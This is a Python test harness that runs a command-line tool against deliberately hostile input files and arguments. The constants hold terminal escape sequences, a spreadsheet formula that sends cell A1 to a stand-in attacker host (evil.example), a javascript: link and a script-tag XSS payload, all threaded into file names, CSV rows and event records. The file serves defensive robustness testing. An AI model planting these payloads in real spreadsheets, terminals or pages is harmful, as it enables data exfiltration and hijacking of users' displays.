"""An installation's owner at a terminal, with files that strangers wrote: every command, and all that it said and made."""

import json
import os
import subprocess
import sys
import tempfile
from dataclasses import dataclass, field
from pathlib import Path

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\r"
"""Sets a terminal's title, empties it, colours it (in two ways), turns letters around, and goes back to the line's begin."""
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"prices")'
NAME = f"eve{ESCAPES}[red]x[/red]"
TEXT = f"{FORMULA} {ESCAPES} [click](javascript:alert(1)) <script>alert(1)</script> join now"


@dataclass(kw_only=True)
class Told:
    """The home, what was written beside it, and what each command said."""

    home: Path
    out: Path
    said: list[tuple[str, str]] = field(default_factory=list)
    cpu_s = 0.0
    """What the last command computed."""
    peak_mb = 0.0
    """What the last command held at most."""

    def run(self, *words: str) -> str:
        """Run a command as its owner; gives all that it said."""
        command = [str(Path(sys.executable).with_name("cautery")), *words, "--home", str(self.home)]
        with tempfile.TemporaryFile() as out:
            process = subprocess.Popen(command, stdout=out, stderr=subprocess.STDOUT, cwd=self.out, umask=0o022)
            _, status, cost = os.wait4(process.pid, 0)
            process.returncode = os.waitstatus_to_exitcode(status)
            out.seek(0)
            said = out.read().decode()
        self.cpu_s, self.peak_mb = cost.ru_utime + cost.ru_stime, cost.ru_maxrss / 1024
        self.said.append((" ".join(words[:2]), said))
        assert "Traceback" not in said, said
        assert process.returncode in range(8), said
        return said


def tell(folder: Path) -> Told:
    """Live through a whole story with hostile files."""
    told = Told(home=folder / "home", out=folder / "out")
    told.out.mkdir()
    events, labels, bank = told.out / f"e{ESCAPES}.ndjson", told.out / "l.csv", told.out / "b.csv"
    events.write_text("".join(json.dumps(one) + "\n" for one in _events()) + f'{{"{ESCAPES}": oops\n{ESCAPES}\n')
    labels.write_text(
        f'account,label,source\n"{NAME}",violating,"{FORMULA}"\n"{NAME}",{ESCAPES},x\nmember 0,violating,x\n'
    )
    bank.write_text(f'type,value,why\nterm,"{FORMULA}","{TEXT[:60]}"\n{ESCAPES},x,y\nterm,@handle,"+1"\n')
    told.run("init")
    told.run("ingest", str(events))
    told.run("label", str(labels))
    told.run("banks", "import", str(bank))
    told.run("banks", "add", "term", f"lamp{ESCAPES}", "--why", TEXT)
    for words in (
        ("suspects", "--all"),
        ("cases",),
        ("networks",),
        ("operators",),
        ("banks", "list"),
        ("banks", "export", str(told.out / "export.csv")),
        ("quarantine", "list"),
        ("quarantine", "retry"),
        ("match", "--text", TEXT),
        ("fit",),
        ("effect", "--out", str(told.out / "effect")),
        ("decide", f"no{ESCAPES}", "--measure", "none", "--reason", TEXT),
        ("audit", "verify"),
        ("doctor",),
        ("jobs",),
        ("takedown", "list"),
        ("ingest", str(told.out / f"none{ESCAPES}")),
    ):
        told.run(*words)
    return told


def _events() -> list[dict[str, object]]:
    """Give a few accounts that act together, and whose every text is hostile."""
    found: list[dict[str, object]] = []
    for number in range(12):
        account, at = (NAME if number == 0 else f"member {number % 6}{TEXT[:70]}"), f"2020-01-01T00:00:{number:02}Z"
        common = {"platform": "harbour", "account": account, "at": at}
        profile = {"handle": NAME, "display_name": TEXT, "bio": TEXT}
        post = {"id": f"p{number}{ESCAPES}", "text": TEXT, "links": ["https://evil.example/"], "lang": "en"}
        found += [
            {**common, "id": f"a{number}", "type": "account.created", "profile": profile},
            {**common, "id": f"p{number}{ESCAPES}", "type": "post.created", "post": post},
            {**common, "id": f"u{number}", "type": "post.unheard-of", "post": post},
        ]
    return found
